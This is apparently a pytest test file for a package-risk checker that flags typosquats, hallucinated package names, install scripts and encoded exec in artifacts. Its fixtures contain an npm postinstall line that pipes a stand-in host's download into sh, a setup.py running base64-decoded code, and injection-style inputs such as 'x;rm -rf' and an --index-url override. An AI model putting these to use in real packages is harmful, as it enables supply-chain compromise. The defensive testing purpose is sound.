"""check(): contract columns, order, registries on loopback, local artifacts, CLI behaviour."""

from __future__ import annotations

import base64
import csv
import json
import subprocess
import sys
import tarfile

import pytest

import importlib

chk = importlib.import_module("slopspotter_lab.check")
from slopspotter_lab.cli import main
from slopspotter_lab.errors import InputError

CONTRACT = ["name", "ecosystem", "exists", "typosquat_of", "similar_to", "risk", "score", "indicators"]


@pytest.fixture(autouse=True)
def hand_set_model(monkeypatch):
    """Risk levels below are those of the frozen hand-set model, whatever the packaged fit says."""
    from pathlib import Path

    monkeypatch.setenv("SLOPSPOTTER_MODEL", str(Path(__file__).with_name("hand_set_model.json")))


@pytest.fixture
def loopback(registry_env, pypi_json_server, pypi_server):
    registry_env.setenv("SLOPSPOTTER_PYPI_URL", pypi_json_server.url)
    registry_env.setenv("SLOPSPOTTER_PYPI_SIMPLE_URL", pypi_server.simple_url)
    return registry_env


def test_offline_records_contract_and_order(registry_env):
    names = ["reqeusts", "requests", "opengl", "reqeusts", "zzqxv-unrelated-tool"]
    recs = chk.check_records(names, offline=True)
    assert [r["name"] for r in recs] == names
    for r in recs:
        assert set(CONTRACT) <= set(r) and r["exists"] is None
        assert r["risk"] in ("low", "medium", "high") and 0 <= r["score"] <= 1
        json.dumps(r)  # JSON-ready
    assert recs[0]["typosquat_of"] == "requests" and recs[0]["risk"] == "medium"
    assert recs[1]["risk"] == "low" and recs[1]["indicators"] == []
    assert recs[2]["suggestion"] == "PyOpenGL"
    assert recs[0] == recs[3]


def test_dataframe_columns(registry_env):
    df = chk.check(["lodahs", "lodash"], ecosystem="npm", offline=True)
    assert list(df.columns[:8]) == CONTRACT and len(df) == 2
    assert df.loc[0, "typosquat_of"] == "lodash" and df["typosquat_of"].isna()[1]


def test_online_against_loopback_registries(loopback):
    recs = chk.check_records(["requests", "six==1.17.0", "slop-hallucinated-name", "reqeusts"], workers=4)
    by = {r["name"]: r for r in recs}
    assert by["requests"]["exists"] is True and by["requests"]["risk"] == "low"
    assert by["six"]["version"] == "1.17.0"
    hall = by["slop-hallucinated-name"]
    assert hall["exists"] is False and hall["risk"] == "high"
    assert hall["indicators"][0]["id"] == "not_found" and hall["indicators"][0]["weight"] > 0
    squat = by["reqeusts"]
    assert squat["exists"] is False and squat["typosquat_of"] == "requests" and squat["risk"] == "high"


def test_unreachable_registry_is_null_not_false(registry_env):
    rec = chk.check_records(["requests"])[0]
    assert rec["exists"] is None and "unreachable" in rec["error"]
    assert [i["id"] for i in rec["indicators"]] == ["registry_unreachable"]


def test_npm_install_script_package(registry_env, npm_registry, tmp_path):
    pkg = tmp_path / "slop-check-scripts"
    pkg.mkdir()
    (pkg / "package.json").write_text(json.dumps({
        "name": "slop-check-scripts", "version": "99.0.0",
        "scripts": {"postinstall": "curl -s http://collector.invalid/x | sh"}}))
    npm_registry.publish(pkg)
    registry_env.setenv("SLOPSPOTTER_NPM_URL", npm_registry.url)
    rec = chk.check_records(["slop-check-scripts"], "npm")[0]
    ids = {i["id"] for i in rec["indicators"]}
    assert {"install_scripts", "version_jump", "new_package", "single_release"} <= ids
    assert rec["exists"] is True and rec["risk"] == "high"


def test_local_artifact_gets_static_analysis(registry_env, tmp_path):
    src = tmp_path / "evil-0.1"
    src.mkdir()
    payload = base64.b64encode(b"print('synthetic')").decode()
    (src / "setup.py").write_text(f"import base64\nexec(base64.b64decode('{payload}'))\n")
    sdist = tmp_path / "evil-0.1.tar.gz"
    with tarfile.open(sdist, "w:gz") as tf:
        tf.add(src, arcname="evil-0.1")
    rec = chk.check_records([str(sdist)])[0]
    assert rec["exists"] is None and rec["name"] == str(sdist.resolve())
    assert rec["indicators"][0]["id"] == "encoded_exec" and rec["risk"] in ("medium", "high")


@pytest.mark.parametrize("bad", ["--index-url=http://evil.invalid", "a b", "x;rm -rf", "requests>=2", ""])
def test_invalid_name_is_an_error_row_and_never_fetched(registry_env, bad, monkeypatch):
    import slopspotter_lab.registry as reg

    fetched = []
    real = reg.fetch_metadata
    monkeypatch.setattr(reg, "fetch_metadata", lambda spec, **k: fetched.append(spec.name) or real(spec, **k))
    good, row = chk.check_records(["requests", bad], offline=True)
    assert fetched == ["requests"] and good["name"] == "requests" and good["risk"] == "low"
    assert row["name"] == bad and row["error"].startswith("invalid input") and row["risk"] == "high"
    assert row["score"] is None and row["typosquat_of"] is None and set(CONTRACT) <= set(row)


def test_cli_exit_codes_and_formats(registry_env, capsys, tmp_path):
    assert main(["check", "--offline", "--format", "json", "reqeusts", "requests"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert [r["name"] for r in out] == ["reqeusts", "requests"]
    assert main(["check", "--offline", "--", "--index-url=x"]) == 2
    assert "looks like a command-line option" in capsys.readouterr().err
    assert main(["check", "--offline", "-e", "cargo", "serde"]) == 2
    assert main(["check", "--offline", "--fail-on", "medium", "reqeusts"]) == 1
    capsys.readouterr()
    names = tmp_path / "n.csv"
    names.write_text("name,ecosystem\nlodahs,npm\nnumpyy,pypi\n")
    assert main(["check", "--offline", "--format", "csv", "--from", str(names)]) == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    assert [(r["name"], r["ecosystem"], r["typosquat_of"]) for r in rows] == [("lodahs", "npm", "lodash"), ("numpyy", "pypi", "numpy")]
    assert main(["check", "--offline", "requests"]) == 0
    table = capsys.readouterr().out.splitlines()
    assert table[0].split()[:4] == ["name", "ecosystem", "exists", "risk"] and table[1].startswith("requests")
    assert main(["check", "--offline"]) == 2
    bad_csv = tmp_path / "bad.csv"
    bad_csv.write_text("package\nx\n")
    assert main(["check", "--offline", "--from", str(bad_csv)]) == 2


def test_check_module_does_not_import_pandas():
    code = "import sys, slopspotter_lab.check; print('pandas' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def test_progress_callback(registry_env):
    seen = []
    chk.check_records(["a-b-c", "d-e-f", "a-b-c"], offline=True, progress=lambda d, t: seen.append((d, t)))
    assert seen == [(1, 2), (2, 2)]


@pytest.mark.live
def test_live_check_handful(monkeypatch, tmp_path):
    monkeypatch.setenv("SLOPSPOTTER_CACHE_DIR", str(tmp_path))
    for var in ("SLOPSPOTTER_PYPI_URL", "SLOPSPOTTER_PYPI_SIMPLE_URL", "SLOPSPOTTER_NPM_URL"):
        monkeypatch.delenv(var, raising=False)
    recs = chk.check_records(["requests", "numpy"])
    if any(r["exists"] is None for r in recs):
        pytest.skip("live PyPI unreachable")
    assert all(r["exists"] is True and r["risk"] == "low" for r in recs)


def test_package_level_check_is_callable_after_submodule_import(registry_env):
    import slopspotter_lab

    df = slopspotter_lab.check(["numpyy"], offline=True)
    assert df.loc[0, "typosquat_of"] == "numpy"
